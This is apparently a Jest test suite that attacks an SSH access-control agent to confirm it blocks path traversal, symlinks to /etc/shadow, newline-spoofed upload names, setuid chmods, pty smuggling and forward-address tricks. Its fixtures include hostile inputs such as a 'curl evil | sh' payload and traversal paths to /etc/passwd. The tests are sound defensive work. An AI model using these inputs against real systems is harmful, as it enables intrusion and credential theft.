import { spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { ClientChannel, SFTPWrapper } from 'ssh2';
import { parsePublicKeyLine } from '../../../core/ssh/public-key';
import { sshKeygen, tempKeyDir, type GeneratedKey } from '../../support/ssh-keygen';
import { MAX_MASKED_DOWNLOAD_BYTES } from '../../../agent/ssh/sftp/masked-download';
import { MAX_SFTP_HELD_BYTES } from '../../../agent/ssh/sftp/sftp-relay';
import { postDecision, waitForMail } from '../../support/outbox';
import { collect, ssh2Caller } from '../../support/ssh2-caller';
import { runClient, startSshStack, CLIENT_RUN_TIMEOUT_MS, SSH_TEST_POLICY, type ClientRun, type SshStack } from '../../support/ssh-stack';

/** Attacks on the SSH data plane as an outsider would make them, with the real OpenSSH clients and raw ssh2 callers. */
describe('ssh data plane under attack', () => {
  let stack: SshStack;
  const keys = tempKeyDir();

  beforeAll(async () => {
    const prefixForwarder = "  - { name: prefix-forwarder, targets: [box], subjects: { users: [fwd] }, actions: { read: allow }, forwards: ['127.0.0.*:*'] }\n";
    const policy = SSH_TEST_POLICY.replace('blocks:\n', `${prefixForwarder}blocks:\n  - { name: no-etc, targets: [box], paths: ['/etc/**'] }\n`);
    stack = await startSshStack({ policy });
  }, 120_000);
  afterAll(async () => {
    await stack?.stop();
    keys.remove();
  });

  /** Registers a key for `subject` as the control plane would send it. */
  const register = (key: GeneratedKey, subject: string, groups: string[]): void => {
    const parsed = parsePublicKeyLine(key.publicLine);
    if (!parsed.ok) throw parsed.error;
    const outcome = stack.agent.context.registeredKeys.apply({
      type: 'ssh.keys',
      v: 1,
      asOf: Date.now(),
      part: 0,
      parts: 1,
      keys: [{ fingerprint: parsed.value.fingerprint, keyType: parsed.value.type, expiresAt: Date.now() + 3_600_000, issuer: stack.cp.issuer, subject, name: subject, groups }],
    });
    expect(outcome).toBe('applied');
  };

  /** The real `ssh` with a private key and nothing else to try. */
  const sshWithKey = async (key: GeneratedKey, options: string[], command: string): Promise<ClientRun> => {
    const { host, port } = stack.endpoint('box');
    const args = ['-p', String(port), '-i', key.privateKeyFile, '-o', 'IdentitiesOnly=yes', '-o', `UserKnownHostsFile=${await stack.knownHosts('box')}`, '-o', 'StrictHostKeyChecking=yes', '-o', 'BatchMode=yes', '-o', 'PreferredAuthentications=publickey', '-o', 'LogLevel=ERROR', ...options, `caller@${host}`, command];
    const child = spawn('ssh', args, { stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (c: Buffer) => (stdout += c.toString('utf8')));
    child.stderr.on('data', (c: Buffer) => (stderr += c.toString('utf8')));
    const timer = setTimeout(() => child.kill('SIGKILL'), CLIENT_RUN_TIMEOUT_MS);
    const code = await new Promise<number | null>((resolve) => child.once('close', resolve));
    clearTimeout(timer);
    return { code, stdout, stderr };
  };

  describe('caller public keys', () => {
    let rsa: GeneratedKey;
    beforeAll(() => {
      rsa = sshKeygen(keys.dir, 'rsa', 2048);
      register(rsa, 'loader', []);
    });

    it('accepts a registered RSA key signing with SHA-2 (rsa-sha2-256)', async () => {
      const run = await sshWithKey(rsa, ['-o', 'PubkeyAcceptedAlgorithms=rsa-sha2-256'], 'id -un');
      expect(run).toEqual({ code: 0, stdout: 'twokey-read\n', stderr: '' });
    });

    it('refuses a registered RSA key signing with SHA-1 (ssh-rsa)', async () => {
      const marker = join(stack.sshd.dataDir, 'sha1-was-here');
      const run = await sshWithKey(rsa, ['-o', 'PubkeyAcceptedAlgorithms=ssh-rsa'], `touch ${marker}`);
      expect(run.code).toBe(255);
      expect(run.stderr).toMatch(/Permission denied \(publickey/);
      expect(existsSync(marker)).toBe(false);
    });
  });

  describe('masking of SFTP downloads', () => {
    const SECRET = 'AKIAIOSFODNN7EXAMPLE';
    let local: string;
    let secretFile: string;
    beforeAll(() => {
      local = mkdtempSync(join(tmpdir(), 'tk-attack-local-'));
      secretFile = join(stack.sshd.dataDir, 'creds.txt');
      writeFileSync(secretFile, `aws key ${SECRET} for ann@example.com\nline two\n`, { mode: 0o644 });
    });

    it('masks a file a masked caller downloads with scp and sftp', async () => {
      const token = await stack.token('alice', ['support']);
      const scp = await runClient(stack, 'box', 'scp', token, (dest) => [`${dest}:${secretFile}`, join(local, 'via-scp.txt')]);
      expect(scp.code).toBe(0);
      writeFileSync(join(local, 'get.batch'), `get ${secretFile} ${join(local, 'via-sftp.txt')}\n`);
      const sftp = await runClient(stack, 'box', 'sftp', token, (dest) => ['-b', join(local, 'get.batch'), dest]);
      expect(sftp.code).toBe(0);
      for (const name of ['via-scp.txt', 'via-sftp.txt']) {
        const got = readFileSync(join(local, name), 'utf8');
        expect(got).not.toContain(SECRET);
        expect(got).not.toContain('ann@example.com');
        expect(got).toMatch(/^aws key \S+ for \S+\nline two\n$/);
      }
    });

    it('masks a secret read at odd offsets and lengths through a raw SFTP client', async () => {
      const client = await ssh2Caller(stack, 'box', await stack.token('alice', ['support']));
      try {
        const sftp = await new Promise<SFTPWrapper>((resolve, reject) => client.sftp((e, s) => (e ? reject(e) : resolve(s))));
        const handle = await new Promise<Buffer>((resolve, reject) => sftp.open(secretFile, 'r', (e, h) => (e ? reject(e) : resolve(h))));
        const read = (offset: number, length: number): Promise<string> =>
          new Promise((resolve, reject) => sftp.read(handle, Buffer.alloc(length), 0, length, offset, (e, n, buf) => (e ? reject(e) : resolve(buf.subarray(0, n).toString('utf8')))));
        let joined = '';
        for (let offset = 0; offset < 40; offset += 3) joined += await read(offset, 3);
        expect(joined).not.toContain(SECRET);
        for (let cut = 9; cut < 28; cut++) expect((await read(8, cut - 8)) + (await read(cut, 30))).not.toContain(SECRET);
      } finally {
        client.end();
      }
    });
  });

  it('keeps room for a whole file before a masked download loads, so OPENs sent together stay within what a channel holds', async () => {
    const client = await ssh2Caller(stack, 'box', await stack.token('alice', ['support']));
    try {
      const sftp = await new Promise<SFTPWrapper>((resolve, reject) => client.sftp((e, s) => (e ? reject(e) : resolve(s))));
      // Files that leave less than one whole masked download of room once open.
      const count = Math.floor(MAX_SFTP_HELD_BYTES / MAX_MASKED_DOWNLOAD_BYTES);
      const size = Math.floor((MAX_SFTP_HELD_BYTES - MAX_MASKED_DOWNLOAD_BYTES) / count) + 1024;
      const open = (path: string): Promise<string> => new Promise((resolve) => sftp.open(path, 'r', (e) => resolve(e ? e.message : 'opened')));
      for (let i = 0; i < count; i++) {
        writeFileSync(join(stack.sshd.dataDir, `big-${i}.txt`), Buffer.alloc(size, 0x61), { mode: 0o644 });
        expect(await open(join(stack.sshd.dataDir, `big-${i}.txt`))).toBe('opened');
      }
      writeFileSync(join(stack.sshd.dataDir, 'small.txt'), 'small\n', { mode: 0o644 });
      expect(await open(join(stack.sshd.dataDir, 'small.txt'))).toBe('twokey: too many masked downloads open at once');
    } finally {
      client.end();
    }
  }, 60_000);

  describe('SFTP uploads held in memory', () => {
    const openSftp = async (user: string, groups: string[]): Promise<{ sftp: SFTPWrapper; end: () => void }> => {
      const client = await ssh2Caller(stack, 'box', await stack.token(user, groups));
      const sftp = await new Promise<SFTPWrapper>((resolve, reject) => client.sftp((e, s) => (e ? reject(e) : resolve(s))));
      return { sftp, end: () => client.end() };
    };
    const openWrite = (sftp: SFTPWrapper, path: string, flags: 'w' | 'r+' = 'w'): Promise<Buffer> => new Promise((resolve, reject) => sftp.open(path, flags, (e, h) => (e ? reject(e) : resolve(h))));
    const write = (sftp: SFTPWrapper, handle: Buffer, data: Buffer, position = 0): Promise<Error | undefined> =>
      new Promise((resolve) => sftp.write(handle, data, 0, data.length, position, (e) => resolve(e ?? undefined)));

    /** The reviewer's mail about a held change that mentions `mention`, denied; the change fails with the denial. */
    const deniedReview = async (mention: string, pending: Promise<Error | undefined>): Promise<string> => {
      const mail = await waitForMail(stack.cp.outboxDir, 'bob@example.com', mention);
      expect((await postDecision(mail.link, mail.token, 'deny')).status).toBe(200);
      expect((await pending)?.message).toMatch(/denied/);
      return mail.text;
    };

    it('shows the reviewer an upload path with a line break quoted, so it cannot pass for the size and SHA-256 lines', async () => {
      const { sftp, end } = await openSftp('alice', ['support']);
      try {
        const path = `${stack.sshd.dataDir}/spoof\nsize: 3 bytes\nsha256: ${'0'.repeat(64)}\nfirst lines:\nhi`;
        const handle = await openWrite(sftp, path);
        expect(await write(sftp, handle, Buffer.from('curl evil | sh\n'))).toBeUndefined();
        const text = await deniedReview('spoof', new Promise((resolve) => sftp.close(handle, (e) => resolve(e ?? undefined))));
        expect(text.match(/^\| size: /gm)).toEqual(['| size: ']);
        expect(text.match(/^\| sha256: /gm)).toEqual(['| sha256: ']);
        expect(text).toContain('spoof\\nsize: 3 bytes');
      } finally {
        end();
      }
    });

    it('shows the reviewer the permission bits a setstat would set', async () => {
      const { sftp, end } = await openSftp('alice', ['support']);
      try {
        const target = join(stack.sshd.dataDir, 'plain-file');
        writeFileSync(target, 'x\n', { mode: 0o644 });
        const text = await deniedReview('plain-file', new Promise((resolve) => sftp.chmod(target, 0o4755, (e) => resolve(e ?? undefined))));
        expect(text).toContain(`| sftp setstat ${target} mode 4755\n`);
      } finally {
        end();
      }
    });

    it('refuses a symlink at once, without asking a reviewer about a change the agent would not run', async () => {
      const { sftp, end } = await openSftp('alice', ['support']);
      try {
        const link = join(stack.sshd.dataDir, 'link-to-shadow');
        const made = await new Promise<Error | undefined>((resolve) => sftp.symlink('/etc/shadow', link, (e) => resolve(e ?? undefined)));
        expect(made?.message).toBe('twokey: symlink is not relayed over SFTP');
        expect(existsSync(link)).toBe(false);
      } finally {
        end();
      }
    }, 20_000);

    it('refuses an append or a resume, which the agent would write as a whole file over what was there', async () => {
      const existing = join(stack.sshd.dataDir, 'ledger.txt');
      writeFileSync(existing, 'entry one\nentry two\n', { mode: 0o644 });
      const { sftp, end } = await openSftp('loader', []);
      try {
        const refusal = 'twokey: only whole-file uploads are held (written from the start, no append or resume)';
        const appended = await new Promise<string>((resolve) => sftp.open(existing, 'a', (e) => resolve(e ? e.message : 'opened')));
        expect(appended).toBe(refusal);
        const resumed = await openWrite(sftp, existing, 'r+');
        expect((await write(sftp, resumed, Buffer.from('entry three\n'), 20))?.message).toBe(refusal);
        expect(readFileSync(existing, 'utf8')).toBe('entry one\nentry two\n');
      } finally {
        end();
      }
    });

    it('bounds what one channel holds across many uploads open at once', async () => {
      const { sftp, end } = await openSftp('loader', []);
      try {
        const half = Buffer.alloc(MAX_SFTP_HELD_BYTES / 2 + 1024 * 1024, 0x61);
        const first = await openWrite(sftp, join(stack.sshd.dataDir, 'held-1'));
        const second = await openWrite(sftp, join(stack.sshd.dataDir, 'held-2'));
        expect(await write(sftp, first, half)).toBeUndefined();
        expect((await write(sftp, second, half))?.message).toMatch(/larger than an approval can hold/);
      } finally {
        end();
      }
    }, 60_000);
  });

  describe('SFTP paths a block names, spelled otherwise', () => {
    const withSftp = async <T>(user: string, groups: string[], use: (sftp: SFTPWrapper) => Promise<T>): Promise<T> => {
      const client = await ssh2Caller(stack, 'box', await stack.token(user, groups));
      try {
        return await use(await new Promise<SFTPWrapper>((resolve, reject) => client.sftp((e, s) => (e ? reject(e) : resolve(s)))));
      } finally {
        client.end();
      }
    };
    const stat = (sftp: SFTPWrapper, path: string): Promise<string> => new Promise((resolve) => sftp.stat(path, (e) => resolve(e ? e.message : 'ok')));
    const upload = (sftp: SFTPWrapper, path: string): Promise<string> =>
      new Promise((resolve) => sftp.writeFile(path, 'x\n', (e) => resolve(e ? e.message : 'ok')));

    it('blocks the plain path, and the same path with doubled slashes or dot segments', async () => {
      const results = await withSftp('alice', ['support'], async (sftp) => [await stat(sftp, '/etc/passwd'), await stat(sftp, '//etc/passwd'), await stat(sftp, '/etc/./passwd'), await stat(sftp, '/./etc//passwd')]);
      for (const result of results) expect(result).toBe('twokey: blocked by no-etc (/etc/passwd)');
    });

    it('refuses paths with .. segments, which the target resolves after symlinks', async () => {
      const result = await withSftp('alice', ['support'], (sftp) => stat(sftp, `${stack.sshd.dataDir}/../../../../../../etc/passwd`));
      expect(result).toBe('twokey: SFTP paths with .. are refused; give the path without it');
    });

    it('refuses an upload to a relative path or a path with a NUL', async () => {
      const [relative, nul] = await withSftp('loader', [], async (sftp) => [await upload(sftp, 'relative.txt'), await upload(sftp, `${stack.sshd.dataDir}/ok.txt\u0000.sh`)]);
      expect(relative).toBe('twokey: changes over SFTP need an absolute path');
      expect(nul).toBe('twokey: SFTP paths with a NUL or bytes that are not UTF-8 are refused');
      expect(existsSync(join(stack.sshd.dataDir, 'ok.txt'))).toBe(false);
    });
  });

  it('blocks a command line writing a blocked path spelled with doubled slashes or dot segments', async () => {
    const token = await stack.token('loader', []);
    for (const spelled of ['//etc/twokey-probe', '/tmp/../etc/twokey-probe', '/etc/./twokey-probe']) {
      const run = await runClient(stack, 'box', 'ssh', token, (dest) => [dest, `echo x > ${spelled}`]);
      expect(run.code).toBe(126);
      expect(run.stderr).toMatch(/^twokey: blocked by no-etc \(\/etc\/(\.\/)?twokey-probe\)\n$/);
    }
  });

  it('keeps a command to the terminal it was judged with: a pty requested after the exec is refused', async () => {
    // An analyst may run reads but no shell: a pager a pty would start offers one (`!sh` in less).
    const client = await ssh2Caller(stack, 'box', await stack.token('ann', ['analyst']));
    try {
      const stream = await new Promise<ClientChannel>((resolve, reject) => client.exec('ls -l /proc/self/fd/0', (e, s) => (e ? reject(e) : resolve(s))));
      // ssh2's client sends a pty-req only before an exec; its protocol layer sends one on the open channel.
      const protocol = (client as unknown as { _protocol: { pty(chan: number, rows: number, cols: number, height: number, width: number, term: string, modes: null, wantReply: boolean): void } })._protocol;
      protocol.pty((stream as unknown as { outgoing: { id: number } }).outgoing.id, 24, 80, 0, 0, 'xterm', null, false);
      const run = await collect(stream);
      expect(run.code).toBe(0);
      expect(run.stdout).not.toContain('/dev/pts');
    } finally {
      client.end();
    }
  });

  it('forwards to an address a glob names, and refuses another spelling of one that the glob also matches', async () => {
    const client = await ssh2Caller(stack, 'box', await stack.token('fwd', []));
    const forward = (host: string): Promise<string> =>
      new Promise((resolve) =>
        client.forwardOut('127.0.0.1', 0, host, stack.sshd.port, (e, stream) => {
          if (e) return resolve(`refused: ${e.message}`);
          stream.once('data', (banner: Buffer) => {
            resolve(banner.toString('latin1').slice(0, 8));
            stream.close();
          });
        }),
      );
    try {
      expect(await forward('127.0.0.1')).toBe('SSH-2.0-');
      for (const spelled of ['127.0.0.0x1', '127.0.0.1.', '127.0.0.1.example.test']) expect(await forward(spelled)).toMatch(/^refused: /);
    } finally {
      client.end();
    }
  });
});
